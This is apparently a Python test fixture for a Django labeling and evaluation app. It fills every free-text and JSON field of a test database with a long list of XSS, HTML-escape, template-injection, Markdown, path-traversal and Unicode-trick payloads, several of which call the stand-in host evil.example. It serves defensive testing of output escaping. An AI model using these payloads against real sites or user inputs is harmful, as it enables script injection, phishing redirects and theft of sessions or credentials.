"""Texts that want to be more than text, and a database in which every text is one of them."""

import itertools
from typing import Any

from django.apps import apps
from django.db import models
from django.db.models import F
from django.utils import timezone

from alignment.models.certificates import Certificate
from alignment.models.reports import Report
from evaluation.models.judges import Judge, JudgeProfile
from labeling.models.chats import Chat
from labeling.models.labels import Label, LabelRevision
from labeling.models.people import AuditEvent
from tests.factories.triggers import without_triggers

_CODE = "alert(1)"
# Elements that run code by themselves, or that load or cover something.
_ELEMENTS = [
    f"<script>{_CODE}</script>",
    f"<ScRiPt/x>{_CODE}</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    f"<script type=module>{_CODE}</script>",
    f'<script type="text/x" id=evil>{_CODE}</script>',
    f"<scr<script>ipt>{_CODE}</scr</script>ipt>",
    f"<img src=x class=evil onerror={_CODE}>",
    f"<IMG SRC=x OnErRoR='{_CODE}'>",
    f"<img/src/onerror={_CODE}>",
    "<img src=https://evil.example/pixel.png>",
    f'<img src="x` `<script>{_CODE}</script>"` `>',
    f"<svg onload={_CODE}>",
    f"<svg><script>{_CODE}</script></svg>",
    f"<svg><a xlink:href=javascript:{_CODE}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s>",
    f"<math><mi xlink:href=javascript:{_CODE}>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CODE}>",
    f"<iframe srcdoc='<script>{_CODE}</script>'></iframe>",
    f"<iframe src=javascript:{_CODE}></iframe>",
    "<object data=https://evil.example/x></object>",
    f"<embed src=javascript:{_CODE}>",
    f"<video onerror={_CODE}><source src=x></video>",
    f"<audio src=x onerror={_CODE}></audio>",
    f"<details open ontoggle={_CODE} class=evil>x</details>",
    f"<input autofocus onfocus={_CODE} class=evil>",
    f"<select autofocus onfocus={_CODE}></select>",
    f"<textarea autofocus onfocus={_CODE}>",
    f"<body onload={_CODE}>",
    f"<marquee onstart={_CODE}>x</marquee>",
    f"<button onclick={_CODE} class=evil>x</button>",
    f"<form action=javascript:{_CODE} class=evil><input type=submit></form>",
    "<form action=https://evil.example class=evil><button>Sign in</button></form>",
    f"<isindex type=image src=x onerror={_CODE}>",
    f"<keygen autofocus onfocus={_CODE}>",
    f"<x onclick={_CODE} class=evil>x</x>",
    f"<div onpointerover={_CODE} class=evil>x</div>",
    f"<template><img src=x onerror={_CODE}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CODE}>'>",
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div class=evil style="position:fixed;inset:0;background:red">x</div>',
    "<p style=background:url(https://evil.example/x)>x</p>",
    "<div hx-get=/workspace/ hx-trigger=load class=evil>x</div>",
    f"<div hx-on::load={_CODE} class=evil>x</div>",
    f"<div data-hx-on-load={_CODE} class=evil>x</div>",
    "<a class=evil href=https://evil.example>x</a>",
    f"<a class=evil href=javascript:{_CODE}>x</a>",
    f"<a class=evil href=' java\tscript:{_CODE}'>x</a>",
    f"<a class=evil href=&#106;avascript:{_CODE}>x</a>",
    "<a class=evil href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<h1 id=main class=evil>Fake heading</h1>",
]
# Out of the attribute, the element or the comment that a page may have put them into.
_ESCAPES = [
    f'" onmouseover={_CODE} class="evil',
    f"' onmouseover={_CODE} class='evil",
    f'" autofocus onfocus={_CODE} x="',
    f"` onmouseover={_CODE} x=`",
    f'"><img src=x onerror={_CODE}>',
    f"'><img src=x onerror={_CODE}>",
    f'"><script>{_CODE}</script>',
    f"</title><script>{_CODE}</script>",
    f"</textarea><script>{_CODE}</script>",
    f"</script><script>{_CODE}</script>",
    f"</style><script>{_CODE}</script>",
    f"</template><img src=x onerror={_CODE}>",
    f"</td></tr></table><img src=x onerror={_CODE}>",
    f"</select><img src=x onerror={_CODE}>",
    f"</main></body></html><img src=x onerror={_CODE}>",
    f"<![CDATA[<img src=x onerror={_CODE}>]]>",
    f"';{_CODE};//",
    f"\\';{_CODE};//",
    f"${{{_CODE}}}",
    f"javascript:{_CODE}",
    "//evil.example/x",
    "../../../etc/passwd",
]
# What a template, Markdown or a decoder of entities might make of them.
_LANGUAGES = [
    "{{ 7|add:7 }} {{ request.user.password }}",
    "{% load static %}{% csrf_token %}{% include 'base.html' %}",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    f"[link](javascript:{_CODE})",
    f"[link](JaVaScRiPt:{_CODE} 'x')",
    "[link](https://evil.example \"' onmouseover='alert(1)\")",
    "![pixel](https://evil.example/pixel.png)",
    f"![x](x' onerror='{_CODE})",
    "<https://evil.example/auto>",
    f"<javascript:{_CODE}>",
    f"[m1]: javascript:{_CODE}",
    '[m1: "<img src=x onerror=alert(1)>"]',
    "m1 m2 m999999999999",
    "# [x](javascript:alert(1))",
    f"| a | b |\n| - | - |\n| <img src=x onerror={_CODE}> | {'w' * 300} |",
    "> > > > > > > > quoted",
    f"`<img src=x onerror={_CODE}>`",
    f"~~~ html\n<img src=x onerror={_CODE}>\n~~~",
]
# What reorders, hides, or is too long for its place.
_LETTERS = [
    "\u202e gnp.exe \u202d\u2066\u2067",
    "a\u200bb\u200cc\u2060d\ufeffe\u00ad",
    "\U000e0041\U000e0042 tagged",
    "A" + "\u0301\u0328" * 60,
    "مرحبا بالعالم שלום עולם",
    "\ufdfd" * 20,
    "w" * 300,
    "https://shop.example/" + "a-path/" * 60,
    "＜script＞alert(1)＜/script＞",
    "=HYPERLINK(1)",
]
# Those that swallow whatever follows come last.
PAYLOADS = [*_ELEMENTS, *_ESCAPES, *_LANGUAGES, *_LETTERS, f"<!-- <img src=x onerror={_CODE}> --!> <!--"]
WHOLE = "\n\n".join(PAYLOADS)
FENCE = "\n\n```"

# Texts that are no foreign ones: made by us or checked when they come in.
_OURS = {
    "Criterion.key", "Dimension.key", "User.password", "AuditEvent.verb", "AuditEvent.object_type",
    "Report.against", "Report.split", "Report.pin", "RunChat.split", "Run.source_hash", "Judge.fingerprint",
    "ModelCall.key", "ModelCall.role", "UnitCall.role", "Verdict.sided_with", "Verdict.first_brief",
    "ApiToken.digest", "TextBlock.hash", "Certificate.signature", "Certificate.public_key",
    "DataImport.kind", "DataImport.sha256", "SavedMapping.kind", "SavedMapping.signature",
    "ConnectedEndpoint.preset", "ConnectedEndpoint.key", "ConnectedEndpoint.key_hint", "Invitation.digest",
    "WebhookEndpoint.secret", "WebhookEndpoint.old_secret", "WebhookEndpoint.secret_hint", "DayScore.part",
    "IngestRequest.digest", "Alert.subject",
}  # fmt: skip
_APPS = ("labeling", "evaluation", "alignment")


def poison() -> None:
    """Put a payload into every foreign text of every row; no two are the same."""
    # Only a revoked certificate has a reason.
    Certificate.objects.update(revoked_at=timezone.now(), revoked_by=F("issued_by"), reason="Wrong")
    numbers = itertools.count()
    for app in _APPS:
        for model in apps.get_app_config(app).get_models():
            fields = [field for field in model._meta.concrete_fields if _is_foreign(model, field)]
            rows: models.QuerySet[Any] = models.QuerySet(model)  # past managers that refuse changes
            with without_triggers():
                for row in rows.all() if fields else ():
                    given = {field.name: _text(next(numbers), field.max_length) for field in fields}
                    rows.filter(pk=row.pk).update(**given)
    _poison_json()


def _is_foreign(model: type[models.Model], field: Any) -> bool:
    is_text = isinstance(field, models.CharField | models.TextField) and not field.choices
    return is_text and f"{model.__name__}.{field.name}" not in _OURS and not field.name.endswith("_hash")


def _text(number: int, limit: int | None) -> str:
    """All payloads where there is room, else the next one that fits; in each something is hidden."""
    start = f"{number}\u200b "
    if limit is None:
        return f"{start}{WHOLE}{FENCE}"
    turn = number % len(PAYLOADS)
    texts = (f"{start}{text}" for text in PAYLOADS[turn:] + PAYLOADS[:turn])
    return next(text for text in texts if len(text) <= limit)


def _poison_json() -> None:
    for chat in Chat.objects.all():
        messages = [message | {"content": f"{WHOLE}{FENCE}"} for message in chat.messages]
        metadata = {"title": PAYLOADS[chat.pk % len(PAYLOADS)], PAYLOADS[6]: PAYLOADS[7]}
        Chat.objects.filter(pk=chat.pk).update(messages=messages, metadata=metadata)
    for model in (Label, LabelRevision):
        for row in model._default_manager.exclude(evidence=[]):
            evidence = [part | ({"quote": WHOLE} if "quote" in part else {}) for part in row.evidence]
            model._default_manager.filter(pk=row.pk).update(evidence=evidence)
    for event in AuditEvent.objects.all():  # stored ones do not change
        event.pk, event.detail = None, dict.fromkeys([*event.detail, PAYLOADS[6]], WHOLE)
        event._state.adding = True
        event.save()
    for report in Report.objects.filter(body__has_key="pinned"):
        report.body |= {"set": PAYLOADS[0], "notices": PAYLOADS[:2]}
        for entry in report.body["pinned"]["criteria"]:
            texts = [text | {"question": f"\u200b {WHOLE}"} for text in entry["texts"]]
            entry |= {"name": PAYLOADS[6], "texts": texts}
        if report.body["judge"]:
            report.body["judge"] |= {"name": f"\u200b {PAYLOADS[7]}", "model": PAYLOADS[-2]}
        report.save()
    judges: list[Judge | JudgeProfile] = [*Judge.objects.all(), *JudgeProfile.objects.all()]
    for number, judge in enumerate(judges):
        judge.config |= {"model": f"{number}\u200b {PAYLOADS[number]}", "endpoint": PAYLOADS[-2]}
        judge.save()
